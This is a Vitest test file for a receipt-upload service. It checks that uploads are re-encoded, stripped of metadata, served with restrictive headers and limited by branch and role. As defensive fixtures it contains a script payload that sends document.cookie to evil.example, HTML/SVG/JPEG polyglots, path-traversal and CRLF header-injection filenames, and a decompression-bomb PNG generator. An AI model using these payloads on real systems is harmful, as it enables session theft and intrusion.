import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { trimUploads } from '@labada/db/company/uploads'
import { newId } from '@labada/db/core/ids'
import { givenAdmin, givenBranch, givenEmployee, givenToken, givePreset } from '@labada/db/testing/factories/factories'
import type { Preset } from '@labada/domain/core/presets'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { categoriesOf, expenseOf, PDF, photo, send } from '../testing/spending.ts'
import { done, opened, startTill, statusesOf, type Till } from '../testing/till.ts'

let till: Till
beforeAll(async () => {
  till = await startTill()
})
afterAll(() => till.app.stop())

const bytes = (...parts: (string | Uint8Array)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))))
const SCRIPT = '<script>fetch("https://evil.example/" + document.cookie)</script>'

/** Every file below the data directory. */
function filesOnDisk(folder = join(till.app.dataDir, 'files')): string[] {
  return readdirSync(folder, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
}

describe('a receipt', () => {
  it('is made anew as WebP, upright, with nothing of what was in it', async () => {
    const sideways = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#fff' } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExif({ IFD0: { Copyright: 'Somebody at 10.3157N 123.8854E' } })
      .toBuffer()
    expect(sideways.includes('10.3157N')).toBe(true)
    const upload = done(await send(till.counter, bytes(sideways)))
    expect(upload).toMatchObject({ type: 'image/webp', width: 40, height: 60, name: 'receipt.jpg' })
    const kept = await till.counter.get(`/uploads/${upload.id}`)
    expect((await sharp(kept.bytes).metadata()).exif).toBeUndefined()
    for (const file of filesOnDisk()) expect(readFileSync(file).includes('10.3157N')).toBe(false)
  })

  it('is served so that it can do nothing in our pages, and only to who may see it', async () => {
    const upload = done(await send(till.counter, await photo()))
    const image = await till.counter.get(`/uploads/${upload.id}`)
    expect(Object.fromEntries(image.headers)).toMatchObject({
      'content-type': 'image/webp',
      'content-disposition': 'attachment; filename="receipt.webp"; filename*=UTF-8\'\'receipt.webp',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'; frame-ancestors 'none'",
      'cache-control': 'private, no-store',
      'cross-origin-resource-policy': 'same-origin',
    })
    const small = await till.counter.get(`/uploads/${upload.id}?size=small`)
    expect((await sharp(small.bytes).metadata()).format).toBe('webp')
    expect((await till.admin.get(`/uploads/${upload.id}`)).status).toBe(200)
    const stranger = await till.app.counter()
    expect(await stranger.get(`/uploads/${upload.id}`)).toMatchObject({ status: 404, text: '' })
    expect(await till.app.caller().get(`/uploads/${upload.id}`)).toMatchObject({ status: 401 })
    // A counter sees nothing of the back office’s files either.
    const ours = done(await send(till.admin, await photo(3)))
    expect(await till.counter.get(`/uploads/${ours.id}`)).toMatchObject({ status: 404, text: '' })
  })

  it('may be a PDF, which is saved and never opened', async () => {
    const upload = done(await send(till.counter, PDF, { type: 'application/pdf', name: 'bill.pdf' }))
    const file = await till.counter.get(`/uploads/${upload.id}?size=small`)
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="bill.pdf"/)
    expect(Buffer.from(file.bytes).equals(Buffer.from(PDF))).toBe(true)
  })

  it('sent twice, even at once, it is one file; other content under its id is refused', async () => {
    const [id, image] = [newId(), await photo(44)]
    const answers = await Promise.all([send(till.counter, image, { id }), send(till.counter, image, { id })])
    expect(statusesOf(answers)).toEqual([200, 200])
    expect(await send(till.counter, await photo(45), { id })).toMatchObject({ status: 409 })
    const stranger = await till.app.counter()
    expect(await send(stranger, image, { id })).toMatchObject({ status: 409, body: { code: 'STALE_VERSION' } })
    expect((await stranger.get(`/uploads/${id}`)).status).toBe(404)
  })

  it('of another branch cannot be put on an expense', async () => {
    const kinds = await categoriesOf(till)
    const stranger = await till.app.counter()
    await opened(till, { 1000: 1 }, stranger)
    const upload = done(await send(till.counter, await photo(9)))
    const answer = await stranger.post('/expenses', expenseOf(kinds.Meals, 50, { receipts: [upload.id] }))
    expect(answer).toMatchObject({
      status: 422,
      body: { errors: { receipts: ['This receipt is no longer here. Add it again.'] } },
    })
  })
})

describe('T31: what is no receipt', () => {
  const refused = { status: 422, body: { code: 'FILE_REFUSED', message: 'Only JPG, PNG or PDF' } }

  it.each([
    ['a page that says it is a picture', 'image/jpeg', bytes(`<!doctype html>${SCRIPT}`)],
    ['a page that says so itself', 'text/html', bytes(SCRIPT)],
    [
      'a drawing with a script in it',
      'image/svg+xml',
      bytes(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    ],
    [
      'a drawing that says it is a picture',
      'image/png',
      bytes(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    ],
    ['a program', 'application/octet-stream', bytes('MZ\x90\x00')],
    ['an archive that says it is a PDF', 'application/pdf', bytes('PK\x03\x04')],
    ['a PNG that says it is a JPG', 'image/jpeg', bytes('\x89PNG\r\n\x1a\n')],
    ['a GIF', 'image/gif', bytes('GIF89a')],
    ['something without a type', '', bytes('x')],
    ['a PDF that begins with a page', 'application/pdf', bytes(SCRIPT, PDF)],
  ])('%s is refused', async (_, type, content) => {
    expect(await send(till.counter, content, { type })).toMatchObject(refused)
  })

  it('a picture with a page hidden in it and behind it loses the page', async () => {
    const jpeg = await photo(12)
    // After the first marker a comment with a script, and the whole page once more behind the end.
    const comment = bytes('\xff\xfe', Uint8Array.of(0, SCRIPT.length + 2), SCRIPT)
    const polyglot = bytes(jpeg.slice(0, 2), comment, jpeg.slice(2), `<!doctype html>${SCRIPT}`)
    const upload = done(await send(till.counter, polyglot, { name: 'x.jpg.html' }))
    const kept = await till.counter.get(`/uploads/${upload.id}`)
    expect(kept.headers.get('content-type')).toBe('image/webp')
    for (const file of filesOnDisk()) expect(readFileSync(file).includes('evil.example')).toBe(false)
  })

  it('a picture of 30,000 × 30,000 in a few bytes is never unpacked', async () => {
    const before = process.memoryUsage().rss
    const bomb = pngOf(30_000, 30_000)
    expect(bomb.length).toBeLessThan(2_000_000)
    expect(await send(till.counter, bomb, { type: 'image/png' })).toMatchObject({
      status: 422,
      body: { message: 'This photo is too large. Use a smaller one.' },
    })
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024)
  })

  it('a picture that breaks off is refused', async () => {
    const whole = await photo(50, 600)
    expect(await send(till.counter, whole.slice(0, whole.length / 2))).toMatchObject({
      status: 422,
      body: { code: 'FILE_REFUSED' },
    })
  })

  it('more than 5 MiB is refused, said or not, and so is nothing', async () => {
    const large = bytes('\xff\xd8\xff', new Uint8Array(5 * 1024 * 1024))
    expect(await send(till.counter, large)).toMatchObject({ status: 413 })
    expect(await send(till.counter, bytes(''))).toMatchObject({
      status: 422,
      body: { message: 'File is required' },
    })
    const packed = await till.counter.call('PUT', `/uploads/${newId()}`, {
      rawBody: await photo(),
      headers: { 'content-type': 'image/jpeg', 'content-encoding': 'gzip' },
    })
    expect(packed.status).toBe(400)
  })

  it.each([
    ['../../etc/passwd', 'passwd'],
    ['..\\..\\windows\\win.ini', 'win.ini'],
    ['.htaccess', 'htaccess'],
    ['a\r\nSet-Cookie: x=1.jpg', 'aSet-Cookie: x=1.jpg'],
    ['evil\u202egpj.exe', 'evilgpj.exe'],
    ['', 'receipt'],
    ['ñandú "quoted".jpg', 'ñandú "quoted".jpg'],
  ])('a file called %j is called %j, and lies where all do', async (name, shown) => {
    const upload = done(await send(till.counter, await photo(90), { name }))
    expect(upload.name).toBe(shown)
    expect(filesOnDisk().every((file) => /\/files\/uploads\/[0-9a-f]{2}\/[0-9a-f]{64}$/.test(file))).toBe(true)
    const answer = await till.counter.get(`/uploads/${upload.id}`)
    expect(answer.headers.get('set-cookie')).toBeNull()
    expect(answer.headers.get('content-disposition')).not.toMatch(/[\r\n]/)
  })

  it('files are for the program alone', () => {
    for (const file of filesOnDisk()) expect(statSync(file).mode & 0o077).toBe(0)
  })
})

it('what nobody used for a day is let go, and a picture that somebody else still shows is kept', async () => {
  const kinds = await categoriesOf(till)
  await opened(till, { 1000: 1 })
  const image = await photo(200, 90)
  const [used, unused] = [done(await send(till.counter, image)), done(await send(till.counter, image))]
  const alone = done(await send(till.counter, await photo(201, 91)))
  done(await till.counter.post('/expenses', expenseOf(kinds.Meals, 50, { receipts: [used.id] })))
  const workers = till.app.database.open('labada_workers')
  expect(await trimUploads(workers, new Date(till.now().getTime() - 1))).toEqual([])
  const gone = await trimUploads(workers, new Date(till.now().getTime() + 1))
  expect(gone.length).toBeGreaterThan(1)
  for (const { id } of [unused, alone]) expect((await till.counter.get(`/uploads/${id}`)).status).toBe(404)
  const kept = await till.app.db.selectFrom('upload').selectAll().execute()
  expect(kept.map(({ id }) => id)).toEqual([used.id])
  expect(gone).not.toContain(kept[0]?.contentHash)
})

/** A PNG of one colour, whose data unpacks to far more than it is. */
function pngOf(width: number, height: number): Uint8Array<ArrayBuffer> {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 })
  return bytes('\x89PNG\r\n\x1a\n', chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0)))
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

function crc32(data: Buffer): number {
  let crc = 0xffffffff
  for (const byte of data) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return (crc ^ 0xffffffff) >>> 0
}

describe('a file, by what it is attached to', () => {
  const at = async (preset: Preset, branchIds?: readonly string[]) => {
    const user = await givenAdmin(till.app.db)
    await givePreset(till.app.db, user, preset, branchIds)
    return till.app.caller({ token: (await givenToken(till.app.db, { user })).credential })
  }

  it('is there for whoever sees that thing, in their branches', async () => {
    const { Meals } = await categoriesOf(till)
    const receipt = done(await send(till.counter, await photo(61)))
    const expense = done(await till.counter.post('/expenses', { ...expenseOf(Meals, 20), receipts: [receipt.id] }))
    expect(expense.receipts).toHaveLength(1)
    const elsewhere = await givenBranch(till.app.db)
    const seen = async (preset: Preset, branchIds?: readonly string[]) =>
      (await (await at(preset, branchIds)).get(`/uploads/${receipt.id}`)).status
    expect(await seen('manager', [till.counter.branch.id])).toBe(200)
    expect(await seen('manager', [elsewhere.id])).toBe(404)
    expect(await seen('accountant')).toBe(200)
    expect(await seen('payroll')).toBe(404)
  })

  it('of a personal file is there for whoever may see personal files; while it is no part of one, for its sender', async () => {
    const hired = await givenEmployee(till.app.db, { branchIds: [till.counter.branch.id] })
    const paper = done(await send(till.admin, await photo(62)))
    const readers = { payroll: await at('payroll'), auditor: await at('auditor'), accountant: await at('accountant') }
    expect((await till.admin.get(`/uploads/${paper.id}`)).status).toBe(200)
    expect((await readers.payroll.get(`/uploads/${paper.id}`)).status).toBe(404)
    const document = { id: newId(), uploadId: paper.id, kind: 'contract', note: '', expiresOn: null }
    done(await till.admin.post(`/employees/${hired.employeeId}/documents`, document))
    expect((await readers.payroll.get(`/uploads/${paper.id}`)).status).toBe(200)
    expect((await readers.auditor.get(`/uploads/${paper.id}`)).status).toBe(200)
    expect((await readers.accountant.get(`/uploads/${paper.id}`)).status).toBe(404)
    expect((await till.counter.get(`/uploads/${paper.id}`)).status).toBe(404)
  })
})
